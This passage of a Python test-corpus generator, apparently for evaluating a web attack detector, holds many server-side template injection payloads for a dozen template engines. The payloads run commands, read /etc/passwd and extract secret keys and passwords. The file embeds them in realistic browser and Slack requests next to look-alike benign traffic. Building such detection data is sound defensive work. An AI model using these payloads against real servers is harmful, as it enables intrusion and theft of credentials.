        "{{ request.getClass().getClassLoader() }}",
        "{% for m in (1).TYPE.forName('java.lang.Runtime').methods %}{{ m.name }}{% endfor %}",
        "{{ x . getClass ( ) . forName ( 'java.lang.Runtime' ) }}",
    ]),
    ("ssti-jinjava", [
        "{{'a'.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('JavaScript')"
        ".eval('new java.lang.String(\"x\")')}}",
        "{{'a'.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('JavaScript')"
        ".eval(\"var x=new java.lang.ProcessBuilder; x.command('id'); x.start()\")}}",
        "{{ ____int3rpr3t3r____ }}",
        "{% set x = 'a'.getClass() %}{{ x.forName('java.lang.Runtime') }}",
        "{{ ____int3rpr3t3r____.config }}",
        "{{'a'.class.forName('java.lang.Runtime').getRuntime().exec('id')}}",
        "{{ 'a'.getClass().getClassLoader() }}",
        "{{'a'.getClass().forName('java.lang.System').getProperties()}}",
    ]),
    ("ssti-groovy", [
        '${"id".execute().text}',
        '<%= "whoami".execute().text %>',
        '${new File("/etc/passwd").text}',
        '${Runtime.getRuntime().exec("id")}',
        "${this.class.classLoader.parseClass('class X { static { \"id\".execute() } }')}",
        '@groovy.transform.ASTTest(value={assert java.lang.Runtime.getRuntime().exec("id")})def x',
        '${["sh","-c","id"].execute().text}',
        '${("i"+"d").execute().text}',
    ]),
    ("ssti-mako", [
        "${7*7}",
        "<% import os; x=os.popen('id').read() %>${x}",
        '${self.module.cache.util.os.system("id")}',
        "${self.template.module.runtime.util.os.popen('id').read()}",
        "<%! import subprocess %>${subprocess.check_output(['id'])}",
        "${__import__('os').popen('cat /etc/passwd').read()}",
        "% for a in (self.module.cache.util.os.system('id'),):\n% endfor",
        '<%include file="/etc/passwd"/>',
        '${ __import__ ( "os" ) . system ( "id" ) }',
    ]),
    ("ssti-tornado", [
        '{% import os %}{{ os.popen("id").read() }}',
        '{% import subprocess %}{{ subprocess.check_output("id", shell=True) }}',
        "{{handler.settings}}",
        "{{handler.application.settings['cookie_secret']}}",
        "{% raw __import__('os').system('id') %}",
        "{% include /etc/passwd %}",
        "{% set x = __import__('os').popen('id').read() %}{{x}}",
        '{{ __import__("os").popen("id").read() }}',
    ]),
    ("ssti-django", [
        "{{settings.SECRET_KEY}}",
        "{% debug %}",
        "{{messages.storages.0.signer.key}}",
        "{% load log %}{% get_admin_log 10 as log %}{% for e in log %}{{e.user.get_username}} : {{e.user.password}}"
        "{% endfor %}",
        '{% include "/etc/passwd" %}',
        "{{ settings.DATABASES.default.PASSWORD }}",
        "{% ssi '/etc/passwd' %}",
        "{{request.user.password}}",
    ]),
    ("ssti-erb", [
        "<%= 7*7 %>",
        '<%= system("id") %>',
        "<%= `id` %>",
        "<%= IO.popen('cat /etc/passwd').readlines() %>",
        "<%= File.open('/etc/passwd').read %>",
        "<%= Dir.entries('/') %>",
        "<%= require 'open3'; Open3.capture2('id') %>",
        "<%=%x(id)%>",
        "#{`id`}",
        '<%= Kernel.const_get(:IO).popen("id").read %>',
        "<%- system('whoami') -%>",
    ]),
    ("ssti-handlebars", [
        '{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup '
        'string.sub "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push '
        "\"return require('child_process').exec('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 "
        "codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}",
        '{{#with this}}{{lookup this "constructor"}}{{/with}}',
        '{{lookup (lookup this "constructor") "constructor"}}',
        "{{this.constructor.constructor('return process')()}}",
        '{{#each (lookup this "__proto__")}}{{@key}}{{/each}}',
        '{{> (lookup . "constructor")}}',
        "{{{ process.mainModule.require('child_process').execSync('id') }}}",
        '{{#with (lookup "" "constructor") as |c|}}{{c.constructor "return process"}}{{/with}}',
    ]),
    ("ssti-pug", [
        "#{7*7}",
        "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process')"
        ".exec('id')}()}",
        "- var x = root.process.mainModule.require('child_process').execSync('id')",
        "#{root.process.mainModule.require('child_process').spawnSync('cat', ['/etc/passwd']).stdout}",
        "-global.process.mainModule.require('child_process').exec('id')",
        "p= global.process.env",
        "!{process.mainModule.require('fs').readFileSync('/etc/passwd')}",
        "#{this.constructor.constructor('return process')()}",
    ]),
    ("ssti-ejs", [
        "<%= 7*7 %>",
        "<%= process.mainModule.require('child_process').execSync('id') %>",
        "<%- global.process.mainModule.require('fs').readFileSync('/etc/passwd') %>",
        "<% require('child_process').exec('id') %>",
        "<%= this.constructor.constructor('return process')().env %>",
        "settings[view options][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');s",
        "settings[view options][client]=1&settings[view options][escapeFunction]=1;return global.process."
        "mainModule.constructor._load('child_process').execSync('id');",
        "<%=include('/etc/passwd')%>",
    ]),
    ("ssti-nunjucks", [
        "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
        '{{cycler.constructor("return process")()}}',
        "{{''.constructor.constructor(\"return this.process.env\")()}}",
        '{% set x = range.constructor("return process")() %}{{x.env}}',
        '{{ range . constructor ( "return process" ) ( ) }}',
        "{{ joiner.constructor(\"return require('fs')\")() }}",
        '{{"".toString.constructor.call({},"return global.process.mainModule.constructor._load(\'child_process\')'
        ".execSync('cat /etc/passwd').toString()\")()}}",
        '{{range.constructor("\\x72eturn process")()}}',
    ]),
    ("ssti-lodash-dot", [
        "<%= global.process.mainModule.require('child_process').execSync('id') %>",
        "${global.process.mainModule.require('child_process').execSync('id')}",
        "{{=it.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
        "{{= global.process.env }}",
        "sourceURL=\u2028\u2029global.process.mainModule.require('child_process').execSync('id')",
        '{"variable":"x=process.mainModule.require(\'child_process\').execSync(\'id\')"}',
        "<% _.each([1], function(){ require('child_process').exec('id') }) %>",
        "{{ it.constructor.constructor ( 'return process' ) ( ) }}",
    ]),
    ("ssti-go-template", [
        "{{.}}",
        '{{printf "%s" .Secret}}',
        "{{ .Env }}",
        '{{define "T1"}}<script>alert(1)</script>{{end}} {{template "T1"}}',
        '{{ .System "id" }}',
        '{{ index . "password" }}',
        "{{range .Users}}{{.Password}}{{end}}",
        '{{ .File.ReadFile "/etc/passwd" }}',
    ]),
    ("ssti-razor", [
        "@(7*7)",
        '@System.Diagnostics.Process.Start("cmd.exe","/c whoami")',
        '@{ System.Diagnostics.Process.Start("calc.exe"); }',
        '@System.IO.File.ReadAllText("C:\\\\Windows\\\\win.ini")',
        "@Environment.GetEnvironmentVariables()",
        "@(System.Environment.MachineName)",
        '@{var p=new System.Diagnostics.ProcessStartInfo("cmd","/c dir");System.Diagnostics.Process.Start(p);}',
        '@System.Convert.ToBase64String(System.IO.File.ReadAllBytes("web.config"))',
    ]),
]

SETS: list[tuple[str, list[tuple[str, list[str]]]]] = [
    ("generic", GENERIC), ("php", PHP), ("lfi", LFI), ("java", JAVA), ("ssti", SSTI)]

# --- Browser and client headers ---------------------------------------------------------------------------------

BROWSERS = [
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
     "Safari/537.36", '"Not/A)Brand";v="8", "Chromium";v="126", "Google Chrome";v="126"', '"Windows"'),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
     "Safari/605.1.15", "", ""),
    ("Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", "", ""),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
     "Safari/537.36 Edg/126.0.0.0", '"Not/A)Brand";v="8", "Chromium";v="126", "Microsoft Edge";v="126"',
     '"Windows"'),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/127.0.0.0 "
     "Safari/537.36", '"Not)A;Brand";v="99", "Google Chrome";v="127", "Chromium";v="127"', '"macOS"'),
]
LANGS = ["en-US,en;q=0.9", "en-GB,en;q=0.9", "en-US,en;q=0.5", "de-DE,de;q=0.9,en;q=0.8", "fr-FR,fr;q=0.9,en;q=0.7"]
PAGES = ["users", "users?tab=active", "admin/users", "admin/users/search", "settings/profile", "dashboard",
         "people/directory", "teams/platform"]
CONSENT = ["cookie_consent=accepted", "cookie_consent=essential", "consent=analytics%2Cessential",
           "cookieyes-consent=yes"]
SLACK_UA = "Slackbot 1.0 (+https://api.slack.com/robots)"


class Build:
    """Requests as a browser (or Slack) sends them; a seeded random source picks the small varying pieces."""

    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)
        self.slack_n = 0

    def token(self, n: int = 24) -> str:
        return base64.urlsafe_b64encode(self.rng.randbytes(n)).decode().rstrip("=")

    def headers(self, mode: str, content_type: str = "") -> dict[str, str]:
        """mode: api (fetch of JSON), nav (a form post or page load), write (fetch POST/PATCH)."""
        ua, ch, platform = self.rng.choice(BROWSERS)
        h = {"User-Agent": ua}
        if mode == "nav":
            h["Accept"] = ("text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,"
                           "image/apng,*/*;q=0.8")
        else:
            h["Accept"] = "application/json, text/plain, */*"
        h["Accept-Language"] = self.rng.choice(LANGS)
        h["Accept-Encoding"] = "gzip, deflate, br, zstd"
        if content_type:
            h["Content-Type"] = content_type
            h["Origin"] = "https://app.example.com"
        h["Referer"] = "https://app.example.com/" + self.rng.choice(PAGES)
        if ch:
            h["Sec-CH-UA"] = ch
            h["Sec-CH-UA-Mobile"] = "?0"
            h["Sec-CH-UA-Platform"] = platform
        h["Sec-Fetch-Site"] = "same-origin"
        h["Sec-Fetch-Mode"] = "navigate" if mode == "nav" else "cors"
        h["Sec-Fetch-Dest"] = "document" if mode == "nav" else "empty"
        if mode == "nav":
            h["Sec-Fetch-User"] = "?1"
        if mode == "write":
            h["X-CSRF-Token"] = self.token(18)
        h["Cookie"] = f"session={self.token()}; {self.rng.choice(CONSENT)}"
        return h

    # the six places ---------------------------------------------------------------------------------------------

    def query(self, value: str, binary: bool = False, path: str = "/api/users", name: str = "q") -> dict[str, Any]:
        params = [(name, value), ("page", str(self.rng.randint(1, 9))),
                  ("per_page", self.rng.choice(["20", "50", "100"]))]
        self.rng.shuffle(params)
        qs = urllib.parse.urlencode(params, quote_via=urllib.parse.quote_plus, safe="*",
                                    encoding="latin-1" if binary else "utf-8")
        return {"method": "GET", "uri": f"{path}?{qs}", "body": "", "headers": self.headers("api")}

    def form(self, value: str, binary: bool = False, uri: str = "/admin/users/search",
             name: str = "q") -> dict[str, Any]:
        body = urllib.parse.urlencode([("csrf_token", self.token(32)), (name, value)],
                                      encoding="latin-1" if binary else "utf-8")
        return {"method": "POST", "uri": uri, "body": body,
                "headers": self.headers("nav", "application/x-www-form-urlencoded")}

    def user_json(self, field: str, value: str, method: str = "POST", uri: str = "/api/users",
                  minimal: bool = False) -> dict[str, Any]:
        first, last = self.rng.choice(FIRST), self.rng.choice(LAST)
        doc: dict[str, Any] = {} if minimal else {
            "name": f"{first} {last}", "email": f"{first.lower()}.{last.lower()}@example.com",
            "department": self.rng.choice(DEPARTMENTS), "title": self.rng.choice(TITLES)}
        doc[field] = value
        if minimal and self.rng.random() < 0.5:
            doc["updated_at"] = f"2024-06-{self.rng.randint(10, 28)}T{self.rng.randint(8, 18):02d}:15:00Z"
        return {"method": method, "uri": uri, "body": json.dumps(doc, ensure_ascii=False),
                "headers": self.headers("write", "application/json")}

    def slack(self, text: str) -> dict[str, Any]:
        self.slack_n += 1
        epoch = 1719000000 + self.slack_n * 37
        ts = f"{epoch}.{self.rng.randint(0, 999999):06d}"
        event = {"type": self.rng.choice(["message", "message", "app_mention"]),
                 "user": "U0" + "".join(self.rng.choice("ABCDEFGHJKLMNPQRSTUVWXYZ0123456789") for _ in range(8)),
                 "text": text, "ts": ts, "channel": self.rng.choice(["C04HELPDESK", "C02PLATFORM", "C07PEOPLEOPS"]),
                 "event_ts": ts}
        body = {"token": "Jhj5dZrVaK7ZwHHjRyZWjbDl", "team_id": "T061EG9R6", "api_app_id": "A0PNCHHK2",
                "event": event, "type": "event_callback", "event_id": f"Ev0{self.rng.randint(10**8, 10**9 - 1)}",
                "event_time": epoch}
        return {"method": "POST", "uri": "/slack/events", "body": json.dumps(body, ensure_ascii=False),
                "headers": {"User-Agent": SLACK_UA, "Accept": "*/*", "Accept-Encoding": "gzip,deflate",
                            "Content-Type": "application/json", "X-Slack-Request-Timestamp": str(epoch),
                            "X-Slack-Signature": "v0=" + "".join(self.rng.choice("0123456789abcdef")
                                                                 for _ in range(64))}}

    def path(self, value: str, binary: bool = False, under_users: bool = True) -> dict[str, Any]:
        raw = value.encode("latin-1" if binary else "utf-8")
        seg = "".join(chr(b) if 0x21 <= b <= 0x7e and chr(b) not in "/?#%" else f"%{b:02X}" for b in raw)
        uri = ("/api/users/" if under_users else "/api/") + seg
        return {"method": "GET", "uri": uri, "body": "", "headers": self.headers("api")}

    def header(self, value: str, where: str) -> dict[str, Any]:
        h = self.headers("api")
        req: dict[str, Any] = {"method": "GET", "uri": f"/api/users?page={self.rng.randint(1, 5)}", "body": "",
                               "headers": h}
        if where == "User-Agent":
            h["User-Agent"] = value
            h.pop("Sec-CH-UA", None)
            h.pop("Sec-CH-UA-Mobile", None)
            h.pop("Sec-CH-UA-Platform", None)
        elif where == "Referer":
            h["Referer"] = value
        else:
            h["Cookie"] = h["Cookie"] + "; last_search=" + cookie_value(value)
        return req


def cookie_value(value: str) -> str:
    """A value as a web app writes it into a cookie: what a cookie cannot hold percent-encoded (as bytes when the
    value is binary)."""
    raw = value.encode("latin-1" if value in RAW_BINARY else "utf-8")
    return "".join(chr(b) if 0x21 <= b <= 0x7e and chr(b) not in '",;\\%' else f"%{b:02X}" for b in raw)


def header_safe(value: str) -> bool:
    return not any(ord(c) < 0x20 and c != "\t" for c in value) and value.strip() == value and value != ""


FIRST = ["Dana", "Priya", "Marcus", "Ingrid", "Tomás", "Aiko", "Kwame", "Lena", "Oliver", "Sofia", "Ruby", "Jasper"]
LAST = ["Whitfield", "Raman", "Okafor", "Lindqvist", "Ferreira", "Tanaka", "Mensah", "Novak", "Brennan", "Costa"]
DEPARTMENTS = ["Engineering", "Finance", "People Ops", "Sales", "Support", "Platform", "Legal", "Design"]
TITLES = ["Staff Engineer", "Account Executive", "HR Partner", "Support Lead", "Product Designer", "Analyst"]
TEXT_FIELDS = ["bio", "title", "department", "name", "location", "nickname", "headline", "about"]
URL_FIELDS = ["website", "avatar_url", "homepage", "profile_url"]
FILE_FIELDS = ["avatar_filename", "attachment_name", "resume_file"]
SETTINGS_FIELDS = ["display_name", "signature", "status_text", "timezone", "notes"]
LEADS = ["lookup user ", "ticket title: ", "hey bot, ", "can you search for ", "search ", "bot, what is ",
         "please check ", "new ticket: "]

PLACES = ["query", "form", "json", "path", "header", "alt"]
HEADER_WHERE = ["User-Agent", "User-Agent", "User-Agent", "Referer", "Cookie"]


def _field_for(sub: str, rng: random.Random) -> str:
    if sub.startswith("ssrf") or sub in ("php-data-scheme", "php-wrapper-scheme"):
        return rng.choice(URL_FIELDS)
    if sub == "java-jsp-upload":
        return rng.choice(FILE_FIELDS)
    return rng.choice(TEXT_FIELDS)


def attacks() -> Iterator[dict[str, Any]]:
    b = Build(72)
    n = 0
    counts = {"json": 0, "path": 0, "header": 0, "alt": 0}
    sub_index = 0
    for category, subs in SETS:
        for sub, payloads in subs:
            for i, p in enumerate(payloads):
                binary = p in RAW_BINARY
                place = PLACES[(i + sub_index) % 6] if i < 6 else PLACES[(i + sub_index) % 5]
                rec: dict[str, Any]
                if place == "query":
                    rec, label = b.query(p, binary), "query"
                elif place == "form":
                    rec, label = b.form(p, binary), "form"
                elif place == "json":
                    counts["json"] += 1
                    if counts["json"] % 2:
                        rec, label = b.user_json(_field_for(sub, b.rng), p), "json"
                    else:
                        rec, label = b.slack(b.rng.choice(LEADS) + p), "json:slack"
                elif place == "path":
                    counts["path"] += 1
                    rec, label = b.path(p, binary, under_users=counts["path"] % 3 != 0), "path"
                elif place == "header":
                    where = HEADER_WHERE[counts["header"] % len(HEADER_WHERE)]
                    counts["header"] += 1
                    if not header_safe(p) or binary:
                        where = "Cookie"
                    rec, label = b.header(p, where), f"header:{where}"
                else:
                    counts["alt"] += 1
                    if counts["alt"] % 2:
                        rec = b.user_json(_field_for(sub, b.rng), p, "PATCH", "/api/users/42", minimal=True)
                        label = "json:patch"
                    else:
                        rec = b.form(p, binary, "/me/settings", b.rng.choice(SETTINGS_FIELDS))
                        label = "form:settings"
                n += 1
                yield {**rec, "id": f"{NAME}-{category}-{n:04d}", "category": category, "sub": sub,
                       "placement": label, "payload": p}
            sub_index += 1


# --- Benign: the same places, innocent values with the same words ------------------------------------------------

CHAT = [
    "the Java 21 upgrade is done, Runtime.getRuntime().availableProcessors() now reports 8 in the pod",
    "anyone else seeing the ProcessBuilder deprecation warning in the build? it's from the gradle plugin",
    "we moved from Jackson default typing to explicit subtypes, thanks Priya",
    "log4j is pinned at 2.23 everywhere; the jndi lookup stuff was removed years ago",
    "reminder: no Java serialization between services, use protobuf",
    "the class loader leak in Tomcat went away after the restart",
    "Spring Boot 3.3 is out, the actuator endpoints stay internal",
    "our Node 20 service uses child_process only in the build scripts",
    "the require() in config.js reads env files at startup",
    "process.env is read once; restart the pod after changing secrets",
    "please don't use eval in the report builder, use a lookup table",
    "setTimeout with a string was flagged in code review again, use a function",
    "the prototype chain explanation in the onboarding doc is great",
    "Object.freeze on the defaults object stopped the accidental writes",
    "the metadata page in the admin panel shows the instance name and region",
    "cloud metadata credentials rotate hourly, don't cache them",
    "localhost:8080 is the API in docker compose, 3000 the web app",
    "the 10.0 release is tagged; changelog in the wiki",
    "Ruby on Rails app is being retired next quarter",
    "Perl scripts in the old cron box need an owner",
    "the data: URLs for the email icons are inlined by the bundler",
    "the PHP wiki plugin is gone, we're on Confluence now",
    "templates for the offer letters live in the HR drive",
    "Jinja2 templates in the deploy repo render the nginx config",
    "our Handlebars email templates need the new logo",
    "the Thymeleaf pages in the legacy portal still render fine",
    "Freemarker is used only in the invoice generator",
    "the Velocity templates in Jira were replaced last year",
    "EJS views are being ported to React this sprint",
    "Go templates for the status page are in /templates",
    "Razor pages in the old .NET intranet show the right dates",
    "Django admin is at /admin/ on the analytics box",
    "the mako templates in pylons are legacy, ignore them",
    "lodash template is fine for the CSV header, nothing user supplied",
    "the Pug layout has a broken include for the footer",
    "nunjucks filters for dates are in filters.js",
    "the Twig cache folder filled the disk again",
    "Smarty is still used by the billing vendor, not by us",
    "ERB in the chef cookbooks renders the hosts file",
    "our Groovy Jenkinsfile has a new stage for tests",
    "Blade components in the partner portal look good",
    "Tornado handles the websocket gateway, no templates",
    "the Pebble templates in the notifications service are cached",
    "Jinjava is what HubSpot uses for their emails, interesting read",
    "the path to the report is /reports/2024/q2/summary.pdf",
    "config lives in /etc/app/config.yaml on the VMs",
    "the upload accepts .png, .jpg and .pdf only",
    "the nightly job writes to C:\\Reports\\Nightly on the Windows box",
    "I renamed the file to draft-v2.docx",
    "see you at 10.30 in room 127",
    "price for the extra seats is $12 per month",
    "the class of 2019 reunion is on the 14th",
    "the new process for expense reports starts Monday",
    "I'll require two reviewers for the infra repo from now on",
    "the module on data privacy is mandatory for everyone",
    "our global all-hands is moved to Thursday",
    "Marcus is the constructor of the new onboarding flow, ask him",
    "the exec summary for the board deck is due Friday",
    "system maintenance window Sunday 02:00-04:00 UTC",
    "the serialization format for exports is JSON lines",
    "import of the CSV failed on row 42, bad date",
    "the kernel update needs a reboot of the build agents",
    "my open tickets are in the support queue",
    "the template for the quarterly review is in the drive",
    "we call it the Runtime team now, not Platform Core",
    "ping me when the pipeline is green",
    "the webhook URL for the alerts is in the vault, not in Slack",
    "the avatar upload fails for .heic files",
    "the curly braces in the message template are placeholders like {first_name}",
    "use ${HOME}/bin for your local scripts",
]

SEARCHES = [
    "Dana Whitfield", "priya raman", "O'Brien", "José García", "Zoë Brennan-Costa", "java developer",
    "node.js", "runtime team", "process engineering", "class of 2019", "data scientist", "metadata team",
    "Ruby Chen", "Perl Street", "Template Inc", "169 Main St", "php developer", "jsp migration",
    "platform engineer london", "support lead", "finance", "people ops berlin", "10.0 release", "product designer",
    "kubernetes", "spring boot", "python", "go", "rust", "javascript", "typescript", "react native",
    "machine learning", "sales emea", "legal counsel", "design systems", "site reliability", "security",
    "frontend", "backend", "devops", "qa", "intern", "manager", "director", "vp engineering", "cto",
    "new hires june", "on leave", "contractors", "remote", "san francisco", "new york", "tokyo", "accra",
    "aiko tanaka", "kwame mensah", "lena novak", "oliver brennan", "sofia costa", "jasper okafor",
    "ingrid lindqvist", "tomás ferreira", "marcus okafor", "ruby", "java", "groovy", "scala", "kotlin",
]

PATHS = [
    "42", "1007", "me", "dana.whitfield", "priya.raman", "o'brien", "jos%C3%A9.garcia", "ruby.chen",
    "perl.street", "42/avatar.png", "42/teams", "42/groups", "1007/permissions", "me/notifications",
    "dana.whitfield@example.com", "u-7f3a9c", "U061EG9R6", "42/reports/2024-Q2.pdf", "42/documents/offer-letter.pdf",
    "java-guild", "node.js-guild", "runtime-team", "templates", "42/templates/welcome-email",
    "class-of-2019", "process-owners", "data-platform", "metadata", "export.csv", "42/export.json",
    "search", "lookup", "directory", "42/manager", "42/reports", "1007/devices", "42/sessions",
    "42/api-keys", "aiko.tanaka", "kwame.mensah", "lena.novak", "oliver.brennan", "sofia.costa",
    "jasper.okafor", "ingrid.lindqvist", "tom%C3%A1s.ferreira", "marcus.okafor", "z%C3%B6e.brennan",
    "42/status", "42/timeline", "1007/audit", "staff-engineer", "support-lead", "42/preferences",
    "42/avatar.jpg", "42/photo.webp", "42/resume.docx", "42/notes.txt", "42/calendar.ics", "42/vcard.vcf",
]
API_PATHS = ["teams", "teams/platform", "groups", "docs/runtime", "templates", "reports/weekly", "health",
             "version", "search", "projects/java-migration", "projects/node-upgrade", "metadata/fields"]

CLIENT_UAS = [
    "okhttp/4.12.0", "Java/17.0.9", "Apache-HttpClient/4.5.14 (Java/17.0.9)", "Java-http-client/21.0.3",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", "axios/1.7.2", "undici", "Ruby",
    "Faraday v2.9.0", "libwww-perl/6.72", "python-requests/2.32.3", "curl/8.5.0", "PostmanRuntime/7.39.0",
    "Go-http-client/2.0", "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.6478.71 Mobile "
    "Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Dalvik/2.1.0 (Linux; U; Android 13; SM-S911B Build/TP1A.220624.014)",
    "AcmeDirectory/3.4.1 (iOS 17.5; iPhone15,2)", "AcmeDirectory/3.4.0 (Android 14; Pixel 7)",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17628; Pro)",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Slack/4.39.90 "
    "Chrome/126.0.6478.127 Electron/31.1.0 Safari/537.36 Sonic Slack_SSB/4.39.90",
    "Grafana/11.1.0", "Prometheus/2.53.0", "kube-probe/1.30", "ELB-HealthChecker/2.0",
]
REFERERS = [
    "https://app.example.com/docs/java/runtime?tab=processbuilder", "https://www.google.com/",
    "https://app.example.com/search?q=child_process+exec", "https://app.example.com/users?q=ruby",
    "https://app.example.com/admin/users/search?q=perl", "https://duckduckgo.com/",
    "https://app.example.com/templates/welcome-email/edit", "https://app.example.com/settings/profile#avatar",
    "https://app.example.com/people/directory?dept=Engineering&page=2", "https://teams.microsoft.com/",
    "https://app.example.com/reports/2024/q2?format=pdf", "https://mail.google.com/",
]
COOKIE_EXTRAS = [
    "theme=dark", "lang=en-GB", "tz=Europe%2FLondon", "last_search=java%20developers", "sidebar=collapsed",
    "last_search=ruby%20chen", "recent_team=runtime", "ab_variant=b", "tz=America%2FNew_York",
    "last_search=O%27Brien", "density=compact", "last_view=templates",
]

SETTINGS = [
    ("display_name", "Dana W."), ("display_name", "Ruby Chen"), ("display_name", "José García"),
    ("signature", "Cheers, Priya | Runtime team"), ("signature", "Sent from my phone, please excuse typos"),
    ("signature", "Marcus Okafor, Staff Engineer (Java platform)"), ("status_text", "On call this week"),
    ("status_text", "Out of office until Monday"), ("status_text", "Heads down on the Node 20 upgrade"),
    ("timezone", "Europe/London"), ("timezone", "America/New_York"), ("timezone", "Asia/Tokyo"),
    ("notes", "Prefers email over Slack for anything about payroll"),
    ("notes", "Laptop: MacBook Pro 14, Java 21 and Node 20 installed"),
    ("notes", "Owns the invoice templates (Freemarker) until the migration"),
    ("notes", "Working hours 9:30-17:30, Mon-Thu"),
    ("display_name", "O'Brien, Siobhán"), ("signature", "-- \nLena Novak\nPeople Ops"),
    ("status_text", "Travelling: Accra -> Lisbon"), ("notes", "Allergic to peanuts; team lunch orders please note"),
    ("display_name", "Kwame M."), ("status_text", "Focus time 13:00-15:00"),
    ("signature", "Aiko Tanaka | Design Systems | she/her"), ("notes", "Runs the Perl and Ruby guild meetups"),
    ("timezone", "Africa/Accra"),
]
PATCH_FIELDS = [
    ("bio", "Staff engineer on the Runtime team. Java, Kotlin and a bit of Node.js."),
    ("bio", "I maintain the email templates (Handlebars) and the design system."),
    ("bio", "Data scientist. Python, R, and an unhealthy amount of SQL."),
    ("title", "Senior Process Engineer"), ("title", "Class Teacher (volunteer)"), ("department", "Platform"),
    ("location", "169 Main St, Springfield"), ("location", "10 Prototype Lane, Leeds"), ("nickname", "Rubes"),
    ("website", "https://nodejs.org/api/child_process.html"), ("website", "https://github.com/dana-w"),
    ("headline", "Java | Spring | Cloud"), ("about", "Ex-consultant, now building internal tools."),
    ("phone", "+44 20 7946 0958"), ("pronouns", "they/them"), ("bio", "Loves templates, hates spreadsheets."),
    ("location", "Perl Street 4, Berlin"), ("title", "Runtime Lead"), ("department", "People Ops"),
    ("bio", "Co-organiser of the Ruby meetup; occasional Perl archaeologist."),
    ("website", "https://blog.example.org/posts/java-21-virtual-threads"), ("nickname", "JJ"),
    ("about", "Ask me about the metadata catalogue."), ("location", "Tokyo office, 7F"),
    ("bio", "Support lead. I write the macros and the canned replies ({first_name} placeholders)."),
]
LINKS = [
    "https://docs.oracle.com/en/java/javase/21/docs/api/java.base/java/lang/ProcessBuilder.html",
    "https://docs.oracle.com/javase/8/docs/api/java/lang/Runtime.html",
    "https://nodejs.org/api/child_process.html", "https://nodejs.org/api/vm.html",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Inheritance_and_the_prototype_chain",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/instancedata-data-retrieval.html",
    "https://cloud.google.com/compute/docs/metadata/overview", "https://logging.apache.org/log4j/2.x/",
    "https://jinja.palletsprojects.com/en/3.1.x/templates/", "https://twig.symfony.com/doc/3.x/",
    "https://freemarker.apache.org/docs/", "https://www.thymeleaf.org/documentation.html",
    "https://handlebarsjs.com/guide/", "https://ejs.co/", "https://mozilla.github.io/nunjucks/",
    "https://pkg.go.dev/text/template", "https://www.ruby-lang.org/en/documentation/", "https://perldoc.perl.org/",
    "https://www.php.net/manual/en/wrappers.php", "https://github.com/acme/templates/blob/main/README.md",
    "https://example.com/avatars/42.png", "https://cdn.example.org/img/logo.svg?v=3",
    "https://dana-whitfield.dev/", "https://www.linkedin.com/in/priya-raman", "https://blog.example.org/about",
    "https://jenkins.example.com/job/runtime/", "http://intranet.example.local/wiki/Runtime_Team",
    "https://github.com/rubychen", "https://mastodon.social/@kwame", "https://calendly.com/lena-novak/30min",
]
PROSE = [
    "Please update my title to Senior Process Engineer",
    "the Java user group meets at 6pm, bring your laptop",
    "Constructor Ltd., 10 Prototype Lane, Leeds LS1 4AB",
    "Dear team, the template for the Q3 review is attached",
    "Order #12345: 2x USB-C cables, ship to 169 Main St",
    "Can someone reset the runtime settings on my profile?",
    "The process took longer than expected; system was slow",
    "File: quarterly-report.docx, Data: attached",
    "Class schedule for the data course is on the portal",
    "Please require two approvals on the finance repo",
    "Import the contacts from the old CRM, module by module",
    "Meeting at 10.30 in room 127; bring the printed exec summary",
    "Ruby's farewell lunch is on Friday at the Thai place",
    "Kernel panic on build agent 3, restarted it",
    "Global settings changed: default language is now English (UK)",
    "Our metadata catalogue has 1,204 entries as of today",
    "New office address: 4 Perl Street, Berlin",
    "Search the directory for people in the Java guild",
    "Reminder: the template library moved to the design drive",
    "The evaluation results are in the sheet, tab 2",
]


def benign() -> Iterator[dict[str, Any]]:
    b = Build(7272)
    n = 0

    def rec(req: dict[str, Any], kind: str, placement: str) -> dict[str, Any]:
        nonlocal n
        n += 1
        return {**req, "id": f"{NAME}-{kind}-{n:04d}", "category": "benign", "placement": placement}

    for text in CHAT:
        yield rec(b.slack(slack_escape(text)), "slack", "json:slack")
        yield rec(b.user_json("bio", text), "bio", "json")
    for s in SEARCHES:
        yield rec(b.query(s), "search", "query")
    for s in SEARCHES[::2] + PROSE:
        yield rec(b.form(s), "prose", "form")
